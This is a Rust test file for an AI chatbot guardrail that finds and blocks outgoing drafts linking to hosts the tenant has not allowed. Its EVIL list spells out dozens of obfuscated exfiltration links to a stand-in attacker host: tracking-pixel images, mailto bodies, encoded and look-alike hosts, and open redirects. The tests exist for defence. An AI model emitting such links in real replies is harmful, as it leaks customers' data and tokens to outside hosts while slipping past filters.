//! Exfiltration closed by construction (#18 item 5): a draft may link to, or show an image from,
//! only the hosts the tenant allowed, in every way a client could be made to reach a host.

use custodian::guardrails::{
    evaluate, foreign_links, links, Action, Context, LinkHosts, Policy, Stage, TenantConfig,
    TenantOptions, RULE_LINK_HOST,
};

fn allow(hosts: &[&str]) -> LinkHosts {
    LinkHosts::new(&hosts.iter().map(|h| h.to_string()).collect::<Vec<_>>()).unwrap()
}

/// Every way of writing a link to `evil.example` (and a few other hosts) we know a markdown or
/// HTML renderer, a browser or a chat app to follow.
const EVIL: &[&str] = &[
    // Markdown
    "[your order](https://evil.com/track?d=EMAIL)",
    "![status](https://evil.com/pixel.png?d=secret)",
    "![status](https://evil.com/pixel.png \"title\")",
    "[1]: https://evil.com/collect?d=x",
    "see <https://evil.com/a>",
    "[**click**](//evil.com/x)",
    "**evil.com/collect?d=1**",
    "[good.com](https://evil.com)",
    // HTML
    "<a href=\"https://evil.com/x\">your order</a>",
    "<a href='http://evil.com'>x</a>",
    "<img src=\"https://evil.com/p.gif?d=1\">",
    "<img src=//evil.com/p.gif>",
    "<img src=evil.com/p.gif>",
    "<img srcset=\"https://good.com/a.png 1x, https://evil.com/b.png 2x\">",
    "<a href=\"https&#58;//evil&#46;com/x\">x</a>",
    "<a href=\"&#x68;ttps://evil&period;com\">x</a>",
    // Bare URLs, scheme-less hosts
    "go to https://evil.com/x now",
    "go to www.evil.com now",
    "go to www.evil.zz/x now",
    "go to evil.com/collect?d=1 now",
    "go to evil.io now",
    "go to evil.com:8080/x now",
    // Case, trailing dots, user-info
    "HTTPS://EVIL.COM/X",
    "Visit EVIL.COM/x",
    "https://evil.com./x",
    "https://evil.com../x",
    "https://good.com@evil.com/x",
    "https://good.com:password@evil.com/x",
    "https://good.com%40evil.com@evil.com/",
    "https://evil.com#@good.com",
    "https://evil.com?@good.com",
    // Escapes and look-alike characters
    "https://evil%2Ecom/x",
    "https:\\\\evil.com\\x",
    "https:/evil.com/x",
    "https:evil.com/x",
    "https://evil\\.com/x",
    "https://ev\u{200B}il.com/x",
    "ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／ｘ",
    "https://evil。com/x",
    "evil。com/x",
    "https://evil\u{FF61}com/x",
    // IDN and punycode
    "https://xn--80ak6aa92e.com/x",
    "https://gооd.com/x",
    "https://bücher.example/x",
    "https://good.com.evil.com/x",
    "https://goodXcom.evil/x",
    // Other schemes and hosts
    "[mail us](mailto:someone@evil.com?body=secret)",
    "ftp://evil.com/x",
    "http://203.0.113.9/x?d=1",
    "http://[2001:db8::1]/x",
    "http://intranet/x",
    // A redirect through an allowed host
    "https://good.com/redirect?to=https://evil.com/x",
    "https://good.com/r/https://evil.com/x",
];

#[test]
fn every_form_of_a_link_to_another_host_is_found() {
    let allowed = allow(&["good.com"]);
    for text in EVIL {
        let foreign = foreign_links(text, &allowed);
        assert!(
            !foreign.is_empty(),
            "not found: {text:?} -> {:?}",
            links(text)
        );
        for link in &foreign {
            assert!(link.end <= text.len() && link.start < link.end, "{text:?}");
        }
    }
}

#[test]
fn links_to_allowed_hosts_and_their_subdomains_pass() {
    let allowed = allow(&["good.com", "*.shop.example", "bücher.example"]);
    for text in [
        "See https://good.com/help for details.",
        "See https://help.good.com/returns.",
        "![logo](https://cdn.good.com/logo.png)",
        "<a href=\"https://good.com/x\">help</a>",
        "Visit www.good.com or GOOD.COM.",
        "https://GOOD.com./x",
        "https://shop.example/orders and https://eu.shop.example/orders",
        "https://xn--bcher-kva.example/ and https://BÜCHER.example/",
        "https://good.com/docs/file.pdf?v=1.2.3#part.two",
    ] {
        assert_eq!(foreign_links(text, &allowed), vec![], "{text:?}");
    }
}

#[test]
fn text_that_names_no_host_has_no_links() {
    for text in [
        "Write to ana.silva@gmail.com or support@evil.com and we reply.",
        "Version 1.2.3 costs 19.99, e.g. today, i.e. now, at 3:30 p.m.",
        "Dr. Smith sent invoice.pdf and notes.txt; see section 4.2.",
        "Your placeholder [EMAIL_1] and [URL_1] stay as they are.",
        "Order #A-1234.56 ships today. Thanks!",
        "Note: reply within 30 days.",
    ] {
        assert_eq!(links(text), vec![], "{text:?}");
    }
}

#[test]
fn an_entry_that_is_not_a_host_name_is_refused() {
    for entry in [
        "https://good.com/",
        "good.com/help",
        "good com",
        "",
        "a..b",
        "*.*.good.com",
    ] {
        assert!(
            LinkHosts::new(&[entry.to_string()]).is_err(),
            "{entry:?} was taken"
        );
    }
    let err = Policy::new(&TenantConfig {
        options: TenantOptions {
            link_hosts: vec!["https://good.com/".into()],
            ..TenantOptions::default()
        },
        ..TenantConfig::default()
    })
    .unwrap_err();
    assert!(err.to_string().contains("link_hosts"), "{err}");
}

fn policy(hosts: &[&str]) -> Policy {
    Policy::new(&TenantConfig {
        options: TenantOptions {
            link_hosts: hosts.iter().map(|h| h.to_string()).collect(),
            ..TenantOptions::default()
        },
        ..TenantConfig::default()
    })
    .unwrap()
}

#[test]
fn the_outbound_stage_refuses_a_draft_linking_to_a_host_not_allowed_by_default() {
    // No host is allowed until the tenant adds one.
    let default = Policy::builtin();
    let v = evaluate(
        Stage::Outbound,
        "Track it here: ![x](https://evil.com/p.png?d=1)",
        &mut Context::default(),
        &default,
    );
    assert_eq!(v.action, Action::Handoff);
    let finding = v
        .findings
        .iter()
        .find(|f| f.rule_id == RULE_LINK_HOST)
        .unwrap();
    assert_eq!(
        &"Track it here: ![x](https://evil.com/p.png?d=1)"[finding.start..finding.end],
        "https://evil.com"
    );
    let tenant = policy(&["shop.example"]);
    let ok = evaluate(
        Stage::Outbound,
        "Track it here: https://shop.example/track",
        &mut Context::default(),
        &tenant,
    );
    assert_eq!(ok.action, Action::Allow, "{ok:?}");
}

#[test]
fn a_link_hidden_behind_a_placeholder_is_judged_by_the_value_the_customer_would_see() {
    // A value the model was given masked (a URL carrying a token, the customer's e-mail) is
    // restored only after the outbound stage: the stage reads the draft as it will go out.
    let tenant = policy(&["shop.example"]);
    let mut ctx = Context::default();
    let masked = evaluate(
        Stage::Inbound,
        "Our tracker moved to https://evil.com/t?token=a8f3k2m9x7 and my mail is ana@example.com",
        &mut ctx,
        &tenant,
    )
    .masked_text;
    assert!(!masked.contains("evil.com"), "{masked}");
    let url = masked
        .split_whitespace()
        .find(|w| w.starts_with("[URL"))
        .unwrap();
    let draft = format!("Your parcel: {url}?who=ok");
    let v = evaluate(Stage::Outbound, &draft, &mut ctx, &tenant);
    assert_eq!(v.action, Action::Handoff, "{v:?}");
    let finding = v
        .findings
        .iter()
        .find(|f| f.rule_id == RULE_LINK_HOST)
        .unwrap();
    assert_eq!(&draft[finding.start..finding.end], url);
    // The customer's own e-mail address quoted back is not a link.
    let email = masked
        .split_whitespace()
        .find(|w| w.starts_with("[EMAIL"))
        .unwrap();
    let reply = format!("We will write to {email}.");
    let v = evaluate(Stage::Outbound, &reply, &mut ctx, &tenant);
    assert_eq!(v.action, Action::Allow, "{v:?}");
}
